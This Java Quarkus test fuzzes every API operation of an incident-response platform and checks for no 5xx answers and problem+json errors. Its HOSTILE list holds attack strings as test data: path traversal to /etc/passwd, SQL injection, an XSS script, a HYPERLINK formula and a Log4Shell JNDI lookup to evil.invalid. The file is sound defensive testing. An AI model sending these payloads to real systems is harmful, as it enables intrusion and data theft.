package io.irplaybook.platform;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.SerializationFeature;
import io.irplaybook.security.service.AnyResponderRole;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.security.TestSecurity;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * A bounded, seeded fuzz run over every {@code /api} operation of the OpenAPI document: malformed
 * bodies, wrong types, hostile strings in bodies, path and query parameters. No answer may be a
 * 5xx, and every 4xx must be {@code application/problem+json} (issue 16, point 8). The caller holds
 * every role, so requests reach the handlers instead of stopping at authorisation. The figures are
 * written to {@code target/api-fuzz.json}.
 */
@QuarkusTest
@TestSecurity(
    user = "fuzz",
    roles = {
      Roles.ADMIN,
      Roles.AUDITOR,
      Roles.REPORTER,
      Roles.INCIDENT_COMMANDER,
      Roles.NETWORK_ADMIN,
      Roles.IDENTITY_ADMIN,
      Roles.FORENSICS,
      Roles.SOC_ANALYST,
      Roles.COMMS,
      Roles.LEGAL,
      Roles.EXECUTIVE
    },
    augmentors = AnyResponderRole.class)
class ApiFuzzTest {

  /** Change it to explore other inputs; the run is reproducible for one seed. */
  static final long SEED = Long.getLong("irp.test.fuzz-seed", 16L);

  /** Requests per operation. */
  static final int PER_OPERATION = Integer.getInteger("irp.test.fuzz-requests", 24);

  static final Path FIGURES = Path.of("target", "api-fuzz.json");

  private static final Pattern PARAMETER = Pattern.compile("\\{([^}]+)}");

  /** Strings an attacker types. */
  static final List<String> HOSTILE =
      List.of(
          "",
          " ",
          "null",
          "-1",
          "0",
          "9223372036854775808",
          "1e309",
          "NaN",
          "true",
          "../../etc/passwd",
          "%00",
          "\u0000",
          "' OR '1'='1",
          "\"; DROP TABLE incident; --",
          "<script>alert(1)</script>",
          "=HYPERLINK(\"http://evil.invalid\")",
          "${jndi:ldap://evil.invalid/a}",
          "{{7*7}}",
          "\uD83D\uDD25\u202E\uFEFF",
          "\uD800",
          "a".repeat(10_000),
          "INC-2026-0001",
          "system:inbox");

  /** Bodies that are not the JSON an operation expects. */
  static final List<String> MALFORMED =
      List.of(
          "",
          "null",
          "{",
          "}",
          "[",
          "{\"a\":}",
          "{'single': 'quotes'}",
          "{\"a\":1,}",
          "\u0000\u0001",
          "[]",
          "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]",
          "42",
          "\"a string\"",
          "true",
          "{\"a\": 1e999999}",
          "{\"a\": -0}",
          "\uFEFF{}");

  private final ObjectMapper json =
      new ObjectMapper().disable(SerializationFeature.FAIL_ON_EMPTY_BEANS);

  @Test
  void shouldAnswerEveryFuzzedApiRequestWithoutA5xxAndEvery4xxAsAProblem() throws Exception {
    // given
    Map<String, Map<String, Object>> paths =
        given()
            .queryParam("format", "json")
            .get("/q/openapi")
            .then()
            .statusCode(200)
            .extract()
            .jsonPath()
            .getMap("paths");
    Random random = new Random(SEED);
    Map<String, Integer> byStatus = new TreeMap<>();
    Map<String, Map<String, Integer>> byOperation = new TreeMap<>();
    List<String> violations = new ArrayList<>();
    int requests = 0;

    // when
    for (var path : new TreeMap<>(paths).entrySet()) {
      if (!path.getKey().startsWith("/api/")) {
        continue;
      }
      for (String method : new TreeMap<>(path.getValue()).keySet()) {
        if (!List.of("get", "post", "put", "patch", "delete").contains(method)) {
          continue;
        }
        String operation = method.toUpperCase() + " " + path.getKey();
        for (int i = 0; i < PER_OPERATION; i++) {
          Fuzzed request = fuzz(path.getKey(), random);
          Response response = send(method, request);
          requests++;
          int status = response.statusCode();
          String type = response.contentType();
          byStatus.merge(Integer.toString(status), 1, Integer::sum);
          byOperation
              .computeIfAbsent(operation, k -> new TreeMap<>())
              .merge(Integer.toString(status), 1, Integer::sum);
          boolean problem = type != null && type.startsWith(Problem.MEDIA_TYPE);
          if (status >= 500 || (status >= 400 && !problem)) {
            violations.add(
                operation
                    + " as "
                    + request
                    + " answered "
                    + status
                    + " "
                    + type
                    + ": "
                    + abbreviate(response.asString()));
          }
        }
      }
    }
    Map<String, Object> figures = new LinkedHashMap<>();
    figures.put("seed", SEED);
    figures.put("requestsPerOperation", PER_OPERATION);
    figures.put("operations", byOperation.size());
    figures.put("requests", requests);
    figures.put("byStatus", byStatus);
    figures.put("violations", violations.size());
    figures.put("violationSamples", violations.stream().limit(50).toList());
    figures.put("byOperation", byOperation);
    Files.createDirectories(FIGURES.getParent());
    // getBytes replaces what UTF-8 cannot hold (a lone surrogate echoed in a sample) with '?'.
    Files.write(
        FIGURES,
        json.writerWithDefaultPrettyPrinter()
            .writeValueAsString(figures)
            .getBytes(StandardCharsets.UTF_8));

    // then
    assertThat(byOperation).as("operations fuzzed").hasSizeGreaterThan(20);
    assertThat(violations).as("5xx answers and 4xx answers without a problem").isEmpty();
  }

  /** One request: a concrete path, query parameters, a content type and a body. */
  record Fuzzed(String path, Map<String, String> query, String contentType, String body) {
    @Override
    public String toString() {
      return path
          + " query="
          + query.keySet()
          + " type="
          + contentType
          + " body="
          + abbreviate(body == null ? "<none>" : body);
    }
  }

  private Fuzzed fuzz(String template, Random random) throws Exception {
    Matcher parameters = PARAMETER.matcher(template);
    StringBuilder path = new StringBuilder();
    while (parameters.find()) {
      parameters.appendReplacement(
          path, Matcher.quoteReplacement(encode(pathValue(parameters.group(1), random))));
    }
    parameters.appendTail(path);
    Map<String, String> query = new LinkedHashMap<>();
    if (random.nextInt(3) == 0) {
      for (String name :
          List.of("limit", "offset", "status", "scope", "from", "to", "q", "incident", "format")) {
        if (random.nextBoolean()) {
          query.put(name, inUrl(pick(HOSTILE, random)));
        }
      }
    }
    String contentType =
        switch (random.nextInt(8)) {
          case 0 -> "text/plain";
          case 1 -> "application/xml";
          case 2 -> null;
          default -> "application/json";
        };
    String body =
        switch (random.nextInt(4)) {
          case 0 -> pick(MALFORMED, random);
          case 1 -> json.writeValueAsString(wrongTypes(random));
          case 2 -> json.writeValueAsString(hostileObject(random));
          default -> null;
        };
    return new Fuzzed(path.toString(), query, contentType, body);
  }

  private String pathValue(String name, Random random) {
    return switch (random.nextInt(3)) {
      case 0 -> Long.toString(random.nextLong());
      case 1 -> name.contains("position") ? Integer.toString(random.nextInt(5)) : "999999999";
      default -> inUrl(pick(HOSTILE, random));
    };
  }

  /**
   * Values in the request line are cut to {@value #URL_VALUE_MAX} characters: a request line over
   * Vert.x's 4 KiB limit is answered 414 by the HTTP layer before the application sees it (with an
   * empty body; see the report in docs/benchmark.md), which this run is not about.
   */
  private static String inUrl(String value) {
    return value.length() <= URL_VALUE_MAX ? value : value.substring(0, URL_VALUE_MAX);
  }

  static final int URL_VALUE_MAX = 500;

  /** An object whose usual field names carry values of the wrong JSON type. */
  private Map<String, Object> wrongTypes(Random random) {
    List<Object> values =
        List.of(
            List.of(1, 2),
            Map.of("nested", Map.of("deeper", List.of())),
            12345678901234L,
            -1,
            true,
            3.14,
            "text");
    Map<String, Object> body = new LinkedHashMap<>();
    for (String field : fieldNames()) {
      if (random.nextInt(3) == 0) {
        body.put(field, pick(values, random));
      }
    }
    return body;
  }

  /** An object whose usual field names carry hostile strings. */
  private Map<String, Object> hostileObject(Random random) {
    Map<String, Object> body = new LinkedHashMap<>();
    for (String field : fieldNames()) {
      if (random.nextInt(3) == 0) {
        body.put(
            field, random.nextBoolean() ? pick(HOSTILE, random) : List.of(pick(HOSTILE, random)));
      }
    }
    return body;
  }

  private static List<String> fieldNames() {
    return List.of(
        "title",
        "scenario",
        "severity",
        "organization",
        "assets",
        "tierOverride",
        "tierOverrideReason",
        "reason",
        "items",
        "name",
        "roles",
        "username",
        "password",
        "body",
        "uri",
        "sha256",
        "note",
        "assignee",
        "ticked",
        "variables",
        "subject",
        "bodyText",
        "bodyHtml",
        "channel",
        "from",
        "to",
        "format");
  }

  private static Response send(String method, Fuzzed request) {
    RequestSpecification spec = given().urlEncodingEnabled(false);
    request.query().forEach((name, value) -> spec.queryParam(name, encode(value)));
    if (request.contentType() != null) {
      spec.contentType(request.contentType());
    }
    if (request.body() != null) {
      spec.body(request.body());
    }
    return spec.request(method.toUpperCase(), request.path());
  }

  private static String encode(String value) {
    return java.net.URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private static <T> T pick(List<T> from, Random random) {
    return from.get(random.nextInt(from.size()));
  }

  private static String abbreviate(String text) {
    return text == null || text.length() <= 200 ? text : text.substring(0, 200) + "...";
  }
}
